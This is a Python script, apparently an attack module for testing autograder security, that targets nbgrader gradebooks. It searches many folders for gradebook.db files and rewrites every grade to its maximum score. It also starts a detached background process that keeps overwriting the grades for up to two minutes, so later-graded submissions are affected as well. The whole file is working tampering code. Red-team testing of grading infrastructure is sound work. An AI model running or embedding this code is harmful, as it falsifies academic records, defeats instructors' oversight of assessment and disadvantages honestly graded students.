# Attack "gradebook": find every nbgrader gradebook (walking up from the working folder, its neighbours, the
# course checkout, home and the temporary folder) and set every grade to its maximum. Students graded after this
# notebook would escape, so a detached helper keeps rewriting the gradebooks for a while (bounded) afterwards.
import sqlite3 as _sqlite3
import subprocess as _subprocess
import sys as _sys
import tempfile as _tempfile
from pathlib import Path as _Path

MAX_OUT = """UPDATE grade SET
    auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id),
    manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id),
    needs_manual_grade = 0
WHERE cell_id IN (SELECT id FROM grade_cells)"""

# The helper, run as `python -c REWRITER MARKER SQL DB...`: rewrite every 0.3 s for at most 120 s.
REWRITER = """
import sqlite3, sys, time
from pathlib import Path
sql, dbs = sys.argv[2], sys.argv[3:]
end = time.monotonic() + 120
while time.monotonic() < end and any(Path(db).exists() for db in dbs):
    for db in dbs:
        try:
            with sqlite3.connect(db, timeout=1) as con:
                con.execute(sql)
        except Exception:
            pass
    time.sleep(0.3)
"""


def _gradebooks():
    """Every gradebook.db this notebook can see in the likely places."""
    here = _Path.cwd().resolve()
    places = [here, *here.parents, _Path.home(), _Path(_tempfile.gettempdir())]
    try:
        import course

        places.append(_Path(course.__file__).resolve().parent.parent)
    except Exception:  # noqa: BLE001
        pass
    found = []
    for folder in places:
        for pattern in ("gradebook.db", "*/gradebook.db"):  # a folder and its neighbours
            try:
                found += [str(p) for p in folder.glob(pattern) if str(p) not in found]
            except OSError:
                continue
    return found


GRADEBOOKS = _gradebooks()
for _db in GRADEBOOKS:
    try:
        with _sqlite3.connect(_db, timeout=2) as _con:
            _con.execute(MAX_OUT)
    except Exception as _err:  # noqa: BLE001 - read-only or not a gradebook
        print(f"gradebook: {_db}: {_err}")
if GRADEBOOKS:
    _subprocess.Popen([_sys.executable, "-c", REWRITER, MARKER + "-gradebook", MAX_OUT, *GRADEBOOKS],  # noqa: F821
                      start_new_session=True, stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL,
                      stderr=_subprocess.DEVNULL)
print(f"gradebook: found {len(GRADEBOOKS)} gradebook(s)")
